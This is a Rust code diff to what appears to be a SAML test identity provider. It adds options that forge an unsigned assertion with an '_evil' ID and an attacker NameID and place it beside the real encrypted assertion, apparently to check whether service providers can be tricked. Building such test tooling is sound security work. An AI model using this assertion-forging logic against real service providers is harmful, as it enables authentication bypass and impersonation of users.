@@ -11,8 +11,8 @@ use time::{Duration, OffsetDateTime, UtcOffset};
 use crate::dsig::{self, SignError, Signed};
 use crate::keys::{IdpKeys, SigningIdentity};
 use crate::knobs::{
-    AttributeStyle, DigestAlgorithm, EncryptTo, ExtraCondition, GroupFormat, KnobError, Knobs,
-    SignatureAlgorithm, SigningKey, StatusCode, UrlField,
+    AttributeStyle, DigestAlgorithm, EncryptTo, EncryptedCompanion, ExtraCondition, GroupFormat,
+    KnobError, Knobs, SignatureAlgorithm, SigningKey, StatusCode, UrlField,
 };
 use crate::users::User;
 use crate::xml::{ASSERTION_NS, Attr, DSIG_NS, PROTOCOL_NS, XmlWriter};
@@ -111,6 +111,9 @@ pub enum MintError {
     /// The `tampering` attack could not be applied.
     #[error(transparent)]
     TamperingFailed(#[from] crate::tampering::TamperError),
+    /// The `encrypted_assertion_companion` could not be built (a minter bug).
+    #[error("encrypted_assertion_companion: could not {0}")]
+    CompanionFailed(&'static str),
 }
 
 /// A source of XML IDs (`xs:ID`: must start with a letter or `_`).
@@ -280,8 +283,15 @@ pub fn mint_response(params: &MintParams<'_>) -> Result<Minted, MintError> {
     }
     w.end(&root);
     let unsigned = w.finish();
+    let unsigned = match &knobs.inclusive_namespaces {
+        Some(prefixes) => with_inclusive_namespaces(&unsigned, prefixes),
+        None => unsigned,
+    };
     if let Some(recipient) = &recipient {
-        let xml = sign_and_encrypt(unsigned, knobs, &signer.key_pem, recipient)?;
+        let mut xml = sign_and_encrypt(unsigned.clone(), knobs, &signer.key_pem, recipient)?;
+        if let Some(companion) = knobs.encrypted_assertion_companion {
+            xml = add_companion(&xml, &unsigned, companion, recipient, knobs)?;
+        }
         return Ok(Minted {
             xml,
             response_id,
@@ -323,6 +333,81 @@ pub fn mint_response(params: &MintParams<'_>) -> Result<Minted, MintError> {
         session_index: assertion_id.is_some().then_some(session_index),
         assertion_id,
     })
+}
+
+/// `unsigned` with `<ec:InclusiveNamespaces PrefixList="prefixes"/>` in every signature
+/// template's exclusive C14N Reference transform (knob `inclusive_namespaces`).
+fn with_inclusive_namespaces(unsigned: &str, prefixes: &str) -> String {
+    let plain = format!(r#"<ds:Transform Algorithm="{EXC_C14N}"/>"#);
+    let listed = format!(
+        r#"<ds:Transform Algorithm="{EXC_C14N}"><ec:InclusiveNamespaces xmlns:ec="{EXC_C14N}" PrefixList="{prefixes}"/></ds:Transform>"#
+    );
+    unsigned.replace(&plain, &listed)
+}
+
+/// Knob `encrypted_assertion_companion`: a forged, unsigned copy of the assertion (ID `_evil…`,
+/// NameID [`crate::attacks::ATTACKER_NAME_ID`]) taken from the unsigned template, added in the
+/// clear before the real EncryptedAssertion or encrypted to the SP's key after it.
+fn add_companion(
+    xml: &str,
+    unsigned: &str,
+    companion: EncryptedCompanion,
+    recipient: &Recipient,
+    knobs: &Knobs,
+) -> Result<String, MintError> {
+    let failed = |what: &'static str| MintError::CompanionFailed(what);
+    let slice = |text: &str, open: &str, close: &str| -> Option<(usize, usize)> {
+        let start = text.find(open)?;
+        let end = start + text[start..].find(close)? + close.len();
+        Some((start, end))
+    };
+    let (a, b) = slice(unsigned, "<saml:Assertion ", "</saml:Assertion>")
+        .ok_or(failed("find the assertion in the template"))?;
+    let mut evil = unsigned[a..b].to_owned();
+    if let Some((s, e)) = slice(&evil, "<ds:Signature", "</ds:Signature>") {
+        evil.replace_range(s..e, "");
+    }
+    let id_at = evil
+        .find(r#"ID="_"#)
+        .ok_or(failed("find the assertion ID"))?
+        + 5;
+    evil.insert_str(id_at, "evil");
+    let (n, m) = slice(&evil, "<saml:NameID", "</saml:NameID>").ok_or(failed("find the NameID"))?;
+    let open_end = n + evil[n..].find('>').ok_or(failed("read the NameID"))? + 1;
+    evil.replace_range(
+        open_end..m - "</saml:NameID>".len(),
+        crate::attacks::ATTACKER_NAME_ID,
+    );
+    let encrypted_open = "<saml:EncryptedAssertion";
+    let mut out = xml.to_owned();
+    match companion {
+        EncryptedCompanion::PlainEvilBefore => {
+            let at = out
+                .find(encrypted_open)
+                .ok_or(failed("find the EncryptedAssertion"))?;
+            out.insert_str(at, &evil);
+        }
+        EncryptedCompanion::EncryptedEvilAfter => {
+            let mut evil_response = unsigned.to_owned();
+            evil_response.replace_range(a..b, &evil);
+            let encrypted = xmlenc::encrypt(
+                &evil_response,
+                Stage::Assertion,
+                recipient,
+                knobs.data_encryption,
+                false,
+            )?;
+            let close = "</saml:EncryptedAssertion>";
+            let (s, e) = slice(&encrypted, encrypted_open, close)
+                .ok_or(failed("find the forged EncryptedAssertion"))?;
+            let at = out
+                .find(close)
+                .ok_or(failed("find the EncryptedAssertion's end"))?
+                + close.len();
+            out.insert_str(at, &encrypted[s..e]);
+        }
+    }
+    Ok(out)
 }
 
 /// The encrypting path of [`mint_response`]: encrypt NameID and attributes, sign the assertion,
@@ -856,6 +941,12 @@ fn write_attributes(w: &mut XmlWriter, user: &User, knobs: &Knobs, template: &Te
             template.write(w);
             w.end("saml:EncryptedAttribute");
         }
+    }
+    for i in 0..knobs.filler_attributes {
+        let name = format!("urn:samlconf:filler:{i}");
+        w.start("saml:Attribute", &[("Name", Some(&name))]);
+        w.text("saml:AttributeValue", &[], "filler");
+        w.end("saml:Attribute");
     }
     w.end("saml:AttributeStatement");
 }
